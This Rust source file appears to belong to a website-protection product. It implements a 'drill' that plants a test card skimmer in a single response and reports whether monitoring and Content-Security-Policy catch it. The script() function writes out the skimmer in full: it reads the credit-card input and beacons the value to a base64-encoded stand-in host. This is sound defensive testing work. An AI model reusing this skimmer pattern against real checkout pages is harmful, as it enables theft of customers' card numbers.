//! `gabion drill`: does what an attacker would do, where no customer is harmed, and says whether it was noticed.

use std::fmt;
use std::time::Duration;

use data_encoding::{BASE64, HEXLOWER};
use gabion_core::{Actor, Entropy, EventKind, Severity, SiteId, entropy};
use gabion_markup::hash::ContentHash;
use gabion_markup::holding::ScriptKey;
use gabion_markup::page::{Page, ScriptSource};
use gabion_markup::policy::{PolicySet, Subject, Where};
use gabion_markup::{Address, Collector, PageClass, Rewrite};
use gabion_pages::change::{ChangeFilter, ChangeView};
use gabion_pages::look::Answer;
use gabion_pages::{Pages, PagesError};
use serde::{Deserialize, Serialize};
use tokio::time::Instant;

use crate::exit::{Failure, UNAVAILABLE, USAGE};
use crate::outside::Looker;
use crate::product::Product;

/// A drill was made. Fields: `page`, `named`, `milliseconds` until it was, `runs`, `leaves`.
const DRILL_ENDED: EventKind = EventKind::new("drill.ended", 1, Severity::Info);

/// How long the drill waits to see its script named.
const NAMED_WITHIN: Duration = Duration::from_secs(10);
/// Between two looks whether it was.
const PAUSE: Duration = Duration::from_millis(20);
/// Changes that are looked at for it, the newest first.
const CHANGES_LOOKED_AT: usize = 50;
/// Where the planted script would send to. Names below `invalid` lead nowhere: RFC 6761 section 6.4.
const COLLECTOR: &str = "https://collector.drill.invalid/";

/// What a drill found out.
#[derive(Debug, Serialize, Deserialize)]
pub(crate) struct Found {
    /// The page in which the script was planted.
    page: String,
    /// How long it took until it was named, in milliseconds, and as what; none when it was not.
    named: Option<(u64, String)>,
    /// Whether a browser would have run it.
    runs: bool,
    /// Whether what it reads would have left.
    leaves: bool,
}

impl Found {
    /// Whether everything is as it should be: it was named, and nothing left where a policy is enforced.
    pub(crate) fn is_noticed(&self) -> bool {
        self.named.is_some()
    }
}

impl fmt::Display for Found {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        writeln!(
            f,
            "A card skimmer was planted in one answer, which only this drill asked for:\n  {}\n",
            self.page
        )?;
        match &self.named {
            Some((after, sentence)) => writeln!(f, "  Named    yes, after {after} ms: {sentence}")?,
            None => writeln!(f, "  Named    NO, not within {} s", NAMED_WITHIN.as_secs())?,
        }
        let runs = if self.runs {
            "NO, a browser would have run it"
        } else {
            "yes, a browser would not have run it"
        };
        writeln!(f, "  Stopped  {runs}")?;
        let leaves = if self.leaves {
            "NO, card numbers would have left"
        } else {
            "yes, no card number would have left"
        };
        writeln!(f, "  Kept in  {leaves}")?;
        match (&self.named, self.runs) {
            (None, _) => write!(
                f,
                "\nAre pages watched? See [pages] in gabion.toml, `gabion bypass --end`, and the console."
            ),
            (Some(_), true) => write!(
                f,
                "\nTo stop the next one: approve what belongs there and enforce the policy, Pages in the console."
            ),
            (Some(_), false) => Ok(()),
        }
    }
}

/// Plants a skimmer in one answer and says what became of it.
///
/// # Errors
/// When there is no such site, no payment page is known, or the page cannot be asked for.
pub(crate) async fn skimmer(
    product: &Product,
    pages: &Pages,
    entropy: &dyn Entropy,
    site: Option<&str>,
    path: Option<&str>,
) -> Result<Found, Failure> {
    let (site, page) = place(product, pages, site, path).await?;
    let script = script(entropy);
    let hash = ContentHash::of(script.as_bytes());
    let tag = format!("<script>{script}</script>").parse().expect("the script is short and ASCII");
    let ticket = product.edge().arm_drill(tag);
    let answer = Looker::new(product.clone()).show(&site, &page, &ticket).await;
    let answer = answer.map_err(|error| Failure::new(UNAVAILABLE, format!("{page}: {error}")))?;
    let asked = Instant::now();
    let received = read(&answer, &page);
    let runs = runs(&answer, &received, &page, hash);
    let leaves = runs && may_send(&answer, &page);
    let named = named(pages, &site, hash).await.map_err(|error| Failure::new(UNAVAILABLE, error))?;
    let milliseconds = u64::try_from(asked.elapsed().as_millis()).unwrap_or(u64::MAX);
    if let Some(change) = &named {
        pages.end_drill(change.id, Actor::Shell).await.map_err(|error| Failure::new(UNAVAILABLE, error))?;
    }
    let named = named.map(|change| (milliseconds, change.sentence));
    let found = Found { page: page.to_string(), named, runs, leaves };
    product.tell(&DRILL_ENDED, Actor::Shell, |event| {
        event
            .site(&site)
            .field("page", found.page.as_str())
            .field("named", found.is_noticed())
            .field("milliseconds", i64::try_from(milliseconds).unwrap_or(i64::MAX))
            .field("runs", found.runs)
            .field("leaves", found.leaves)
    });
    Ok(found)
}

/// The page to plant it in: the one that was asked for, or the payment page that is served most.
async fn place(
    product: &Product,
    pages: &Pages,
    site: Option<&str>,
    path: Option<&str>,
) -> Result<(SiteId, Address), Failure> {
    let usage = |message: String| Failure::new(USAGE, message);
    let sites = product.edge().sites();
    let found = match site {
        Some(name) => sites.into_iter().find(|site| site.id == name),
        None => sites.into_iter().next(),
    };
    let found = found.ok_or_else(|| usage(format!("there is no site {:?}", site.unwrap_or_default())))?;
    let id: SiteId = found.id.parse().expect("the edge gives ids");
    let known = match path {
        Some(path) => path.to_owned(),
        None => {
            let known = pages.pages(&id).await.map_err(|error| Failure::new(UNAVAILABLE, error))?;
            let pays = |class| class == PageClass::Payment;
            let payment = known.into_iter().filter(|page| pays(page.class) || pays(page.proposed));
            let most =
                payment.max_by_key(|page| page.servings).and_then(|page| Address::parse(&page.address));
            let most = most.ok_or_else(|| {
                usage(
                    "no payment page is known yet: open one in a browser, or say which with --page /checkout"
                        .to_owned(),
                )
            })?;
            most.path().to_owned()
        }
    };
    let origin = found.origins.first().map(String::as_str).unwrap_or_default();
    let address = Address::parse(&format!("{origin}{known}")).filter(|_| known.starts_with('/'));
    Ok((id, address.ok_or_else(|| usage(format!("--page {known:?}: a path begins with /")))?))
}

/// A skimmer as they are made, but for a name that leads nowhere. Each is another, so that none is known.
fn script(entropy: &dyn Entropy) -> String {
    let mark: [u8; 8] = entropy::draw(entropy);
    let (mark, to) = (HEXLOWER.encode(&mark), BASE64.encode(COLLECTOR.as_bytes()));
    format!(
        "/* Gabion drill {mark} */(function(){{var card=document.querySelector(\"input[autocomplete=cc-number]\");\
         if(card)card.addEventListener(\"change\",function(){{navigator.sendBeacon(atob(\"{to}\"),card.value)}})}})()"
    )
}

/// The page as a browser reads it.
fn read(answer: &Answer, page: &Address) -> Page {
    let mut collector = Collector::new(page, None, Rewrite::default());
    let mut out = Vec::new();
    collector.write(&answer.body, &mut out);
    collector.finish(&mut out)
}

/// Whether a browser would run the script of this hash.
fn runs(answer: &Answer, received: &Page, page: &Address, hash: ContentHash) -> bool {
    let is_there = received.scripts.iter().any(|script| {
        script.kind.is_governed()
            && matches!(&script.source, ScriptSource::Inline(inline) if inline.hash == hash)
    });
    is_there && policies(answer).allows(&Subject::Inline { hash, nonce: None }, page)
}

fn may_send(answer: &Answer, page: &Address) -> bool {
    let to = Address::parse(COLLECTOR).expect("the collector is an address");
    policies(answer).allows(&Subject::Reach { directive: "connect-src", to: Where::Web(&to) }, page)
}

fn policies(answer: &Answer) -> PolicySet {
    let values = answer.headers.iter().filter(|(name, _)| name == "content-security-policy");
    PolicySet::parse(values.filter_map(|(_, value)| std::str::from_utf8(value).ok()), [])
}

/// The change that names the script, when there is one in time.
async fn named(pages: &Pages, site: &SiteId, hash: ContentHash) -> Result<Option<ChangeView>, PagesError> {
    let key = ScriptKey::Inline(hash).to_string();
    let until = Instant::now() + NAMED_WITHIN;
    loop {
        let newest = gabion_web::Page { cursor: None, limit: CHANGES_LOOKED_AT };
        let changes = pages.changes(site, ChangeFilter::default(), newest).await?;
        if let Some(change) = changes.items.into_iter().find(|change| change.subject == key) {
            return Ok(Some(change));
        }
        if Instant::now() >= until {
            return Ok(None);
        }
        tokio::time::sleep(PAUSE).await;
    }
}
